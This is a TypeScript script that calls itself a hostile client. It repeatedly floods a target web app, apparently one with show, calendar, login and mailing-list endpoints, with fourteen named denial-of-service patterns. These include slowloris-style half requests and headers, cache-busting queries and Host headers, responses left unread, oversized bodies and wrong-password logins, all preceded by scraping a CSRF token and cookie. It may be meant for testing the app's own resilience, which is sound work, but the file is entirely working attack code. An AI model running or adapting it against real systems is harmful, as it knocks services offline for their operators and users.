import { connect, type Socket } from 'node:net';

/*
 * A hostile client in a process of its own: `node attacker.ts URL ATTACK`, until it is stopped. It
 * begins a hundred requests a second, too few for limits of another kind (connections, bandwidth).
 */
const [url = '', attack = ''] = process.argv.slice(2);
const { hostname, port, host } = new URL(url);
const EVERY_MS = 10;
const OPEN = 140;
/** The largest body of somebody without a session. */
const BODY_BYTES = 64 * 1024;

const shows = await idsOfShows();
const script = await pathOfScript();
const { token, cookie } = await csrfToken();

interface Attack {
  request: (n: number) => string;
  /** Reads nothing that comes back. */
  isDeaf?: true;
}

const attacks: Record<string, Attack> = {
  'half a JSON body': { request: () => half('/api/v1/login/', 'application/json', '{"username":') },
  'half a form': {
    request: () =>
      half('/api/v1/mailing-list/unsubscribe/none/', 'multipart/form-data; boundary=x', '--x\r\n'),
  },
  'half a head': { request: () => `POST /api/v1/login/ HTTP/1.1\r\nhost: ${host}\r\nx-slow: ` },
  'lists of new days': { request: (n) => get(`/api/v1/shows/?start_date=${nthDay(n)}`) },
  'calendars of new words': { request: (n) => get(`/calendar.ics?search=${n}`) },
  'calendars of new hosts': { request: (n) => get('/calendar.ics', { host: `h${n}.example` }) },
  'new posters': { request: (n) => get(`/posters/${shows[n % shows.length]}.jpg`) },
  'unread lists': { request: () => get('/api/v1/shows/'), isDeaf: true },
  'unread scripts, ten at once': {
    request: () => head('GET', script, {}).repeat(10),
    isDeaf: true,
  },
  'unread refusals': { request: () => login({ ['k'.repeat(BODY_BYTES - 100)]: 1 }), isDeaf: true },
  'unknown fields': { request: () => login(manyFields()) },
  'wrong passwords': {
    request: (n) => login({ username: `nobody-${n}`, password: 'a wrong one' }),
  },
  'refused reads': { request: () => get('/api/v1/messages/') },
  'the documentation, compressed': {
    request: () => get('/api/docs/json', { 'accept-encoding': 'br' }),
  },
};

const chosen = attacks[attack];
if (!chosen) throw new Error(`There is no attack called ${attack}.`);
const { request, isDeaf } = chosen;
const sockets: Socket[] = [];
let count = 0;
setInterval(() => {
  const text = request(count);
  count += 1;
  const socket = connect(Number(port), hostname, () => socket.write(text));
  socket.on('error', () => undefined);
  if (isDeaf) socket.pause();
  else socket.resume();
  sockets.push(socket);
  if (sockets.length > OPEN) sockets.shift()?.destroy();
}, EVERY_MS);
console.log('attacking');

function half(path: string, type: string, start: string): string {
  return [head('POST', path, { 'content-type': type, 'content-length': '5000' }), start].join('');
}

function get(path: string, headers: Record<string, string> = {}): string {
  return head('GET', path, { ...headers, connection: 'close' });
}

function login(fields: object): string {
  const body = JSON.stringify(fields);
  const headers = {
    cookie,
    'x-csrftoken': token,
    'content-type': 'application/json',
    'content-length': String(Buffer.byteLength(body)),
  };
  return head('POST', '/api/v1/login/', headers) + body;
}

function head(method: string, path: string, headers: Record<string, string>): string {
  const lines = Object.entries({ host, ...headers }).map(([name, value]) => `${name}: ${value}`);
  return [`${method} ${path} HTTP/1.1`, ...lines, '', ''].join('\r\n');
}

function manyFields(): object {
  const fields = Array.from({ length: BODY_BYTES / 12 }, (_, n) => [`k${n}`, 1]);
  return Object.fromEntries(fields);
}

function nthDay(n: number): string {
  return new Date(Date.UTC(2000, 0, 1 + n)).toISOString().slice(0, 10);
}

async function idsOfShows(): Promise<string[]> {
  const response = await fetch(`${url}/api/v1/shows/?limit=500`);
  const { results }: { results: { id: string }[] } = await response.json();
  return results.map(({ id }) => id);
}

async function pathOfScript(): Promise<string> {
  const page = await (await fetch(url)).text();
  const [path] = /\/assets\/[^"]+\.js/.exec(page) ?? [];
  if (!path) throw new Error('The page names no script.');
  return path;
}

async function csrfToken(): Promise<{ token: string; cookie: string }> {
  const response = await fetch(`${url}/api/v1/csrf_token/`);
  const { csrfToken }: { csrfToken: string } = await response.json();
  const cookies = response.headers.getSetCookie().map((line) => line.split(';')[0]);
  return { token: csrfToken, cookie: cookies.join('; ') };
}
